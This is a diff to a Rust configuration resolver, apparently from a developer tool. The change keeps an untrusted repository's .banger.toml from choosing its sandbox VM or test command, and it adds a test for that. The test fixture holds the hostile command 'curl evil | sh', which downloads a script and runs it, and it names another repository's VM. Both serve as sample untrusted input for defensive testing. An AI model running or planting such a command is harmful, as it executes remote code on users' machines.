@@ -108,12 +108,14 @@ pub fn resolve(repo_root: &Path, options: &serde_json::Value) -> (Settings, Vec<
             Ok(RepoFile {
                 sandbox: Some(sb), ..
             }) => {
-                s.vm = sb.vm;
+                // An untrusted repository picks neither the command that
+                // runs nor the VM it runs in (another repository's VM).
                 if s.trusted {
+                    s.vm = sb.vm;
                     s.test_command = sb.test_command;
-                } else if sb.test_command.is_some() {
+                } else if sb.test_command.is_some() || sb.vm.is_some() {
                     warnings.push(
-                        ".banger.toml names a test command; it is ignored until the workspace is trusted"
+                        ".banger.toml names a test command or a VM; they are ignored until the workspace is trusted"
                             .into(),
                     );
                 }
@@ -244,11 +246,12 @@ mod tests {
         let dir = tempfile::tempdir().unwrap();
         std::fs::write(
             dir.path().join(".banger.toml"),
-            "[sandbox]\ntest-command = \"curl evil | sh\"\n",
+            "[sandbox]\ntest-command = \"curl evil | sh\"\nvm = \"someone-elses\"\n",
         )
         .unwrap();
         let (s, w) = resolve(dir.path(), &json!({"trusted": false}));
         assert_eq!(s.test_command, None);
+        assert_eq!(s.vm, None);
         assert_eq!(w.len(), 1);
     }
 
